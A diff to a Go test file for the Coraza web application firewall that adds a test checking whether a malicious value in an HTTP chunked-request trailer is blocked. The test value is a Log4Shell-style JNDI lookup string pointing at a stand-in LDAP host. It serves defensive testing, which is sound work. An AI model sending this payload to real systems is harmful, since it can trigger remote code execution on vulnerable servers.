@@ -2,6 +2,7 @@ package coraza_test
 
 import (
 	"errors"
+	"io"
 	"os"
 	"strings"
 	"sync"
@@ -127,11 +128,27 @@ func TestResponse(t *testing.T) {
 				t.Fatalf("%v %+v", err, x.WAF)
 			}
 			var r2 *reason.Error
-			if c.rule != 0 && (!errors.As(err, &r2) || r2.Code != reason.WAFBlockedResponse) {
+			if c.rule != 0 && (!errors.As(err, &r2) || r2.Code != reason.WAFBlockedResponse || a.Status != 0) {
 				t.Errorf("reason %v", err)
 			}
 			checkScore(t, x.WAF)
 		})
+	}
+}
+
+type withTrailer struct{ exchange.Header }
+
+func (withTrailer) Read([]byte) (int, error)   { return 0, io.EOF }
+func (b withTrailer) Trailer() exchange.Header { return b.Header }
+func (withTrailer) Close() error               { return nil }
+
+func TestTrailer(t *testing.T) {
+	for value, stop := range map[string]bool{"harmless": false, "${jndi:ldap://x.test/a}": true} {
+		x := post("/", form, "Transfer-Encoding", "chunked")
+		x.Request.Length, x.Request.Body = exchange.Chunked, withTrailer{exchange.Header{{Name: "X-Sum", Value: value}}}
+		if o := run(keep, x, "a=b"); (o.answer != nil) != stop {
+			t.Errorf("%s: %+v", value, o.waf)
+		}
 	}
 }
 
